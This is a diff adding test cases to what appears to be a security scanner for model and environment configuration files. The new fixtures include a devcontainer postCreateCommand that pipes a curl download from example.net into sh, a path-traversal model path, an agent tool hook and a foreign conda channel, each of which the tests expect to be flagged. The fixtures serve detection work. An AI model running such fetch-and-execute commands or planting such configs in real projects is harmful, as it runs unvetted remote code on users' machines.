@@ -95,6 +95,11 @@ def test_mlflow() -> None:
     assert rules(script, "MLmodel") == {"config.own-code": "medium"}
 
 
+def test_mlflow_parts_outside_the_model() -> None:
+    text = "flavors: {sklearn: {pickled_model: ../../../other/model.pkl}}"
+    assert rules(text, "MLmodel") == {"config.path-outside": "high"}
+
+
 def test_environments_built_from_elsewhere() -> None:
     honest = "dependencies: [python=3.11, {pip: [numpy==2.0, torch==2.4]}]"
     assert rules(honest, "conda.yaml") == {}
@@ -181,6 +186,14 @@ def test_servers_and_launchers_that_run_what_a_file_names() -> None:
     assert rules(serve, "MANIFEST.json") == {"config.own-code": "medium"}
     serve = {"model": {"modelName": "m", "handler": "image_classifier"}}
     assert rules(serve, "MANIFEST.json") == {}
+    container = {"image": "python", "postCreateCommand": "curl -s http://example.net/x | sh"}
+    assert rules(container, "devcontainer.json") == {"config.runs-command": "medium"}
+    hook = {"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "echo"}]}]}}
+    assert rules(hook, "settings.json") == {"config.runs-command": "medium"}
+    assert rules("channels: [https://example.net/c]", "conda.yaml") == {
+        "config.foreign-package": "medium"
+    }
+    assert rules("channels: [conda-forge, pytorch]", "conda.yaml") == {}
     assert rules("import_path: app:deployment", "serve.yaml") == {"config.own-code": "medium"}
 
 
